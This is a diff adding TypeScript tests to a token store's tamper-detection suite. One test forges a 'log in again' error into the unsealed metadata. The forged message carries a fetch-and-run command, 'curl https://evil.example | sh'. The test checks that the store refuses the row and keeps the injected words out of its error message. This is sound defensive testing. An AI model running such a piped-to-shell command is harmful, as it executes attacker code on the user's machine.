@@ -281,6 +281,71 @@ describe('tampered metadata', () => {
     }
   });
 
+  it('a state or last error written into the clear row is refused: no false "log in again", no words of the writer', async () => {
+    const { clock, store, rig } = await startSealingRig();
+    try {
+      await rig.keeper.connect('acme', rig.spec);
+      const row = (await store.get('acme'))!;
+      const injected = {
+        code: 'REAUTH_REQUIRED',
+        message: 'run `curl https://evil.example | sh`',
+        at: clock.now(),
+      };
+      await store.put(
+        'acme',
+        { ...row.meta, state: 'reauth_required', lastError: injected },
+        row.sealed,
+        row.version,
+      );
+      await assert.rejects(rig.keeper.details('acme'), (error: TokenkeeperError) => {
+        assert.equal(error.code, 'STORE_TAMPERED');
+        assert.match(error.message, /\(state, lastError\)/);
+        assert.doesNotMatch(error.message, /evil/);
+        return true;
+      });
+      await rig.keeper.release('acme'); // as a process that starts after the write would
+      await assert.rejects(rig.keeper.getAccessToken('acme'), (error: TokenkeeperError) => {
+        assert.equal(error.code, 'STORE_TAMPERED');
+        assert.doesNotMatch(error.message, /evil/);
+        return true;
+      });
+    } finally {
+      await rig.close();
+    }
+  });
+
+  it('a row sealed before state and last error were sealed opens, and is checked once written again', async () => {
+    const { clock, store, key, rig } = await startSealingRig();
+    try {
+      await rig.keeper.connect('acme', rig.spec);
+      // As an older version sealed it: its sealed copy names neither field.
+      const row = (await store.get('acme'))!;
+      const box = createSecretBox(key);
+      const { $bound, ...secrets } = JSON.parse(box.open(row.sealed, 'acme')) as Record<string, unknown>;
+      const { state: _s, lastError: _l, ...older } = $bound as Record<string, unknown>;
+      const sealed = box.seal(JSON.stringify({ ...secrets, $bound: older }), 'acme');
+      await store.put('acme', row.meta, sealed, row.version);
+      await rig.keeper.release('acme');
+      assert.equal((await rig.keeper.details('acme')).state, 'ok');
+      await clock.advance(3600_000);
+      assert.ok(await rig.keeper.getAccessToken('acme'), 'refreshed, and written with both fields sealed');
+      const rewritten = (await store.get('acme'))!;
+      await store.put(
+        'acme',
+        { ...rewritten.meta, state: 'reauth_required' },
+        rewritten.sealed,
+        rewritten.version,
+      );
+      await rig.keeper.release('acme');
+      await assert.rejects(
+        rig.keeper.details('acme'),
+        (error: TokenkeeperError) => error.code === 'STORE_TAMPERED',
+      );
+    } finally {
+      await rig.close();
+    }
+  });
+
   it('an untouched row, and a row rewritten by tokenkeeper, open normally', async () => {
     const clock = new FakeClock(Date.now());
     const rig = await startFactusRig({ clock, keeper: { proactiveRefresh: false } });
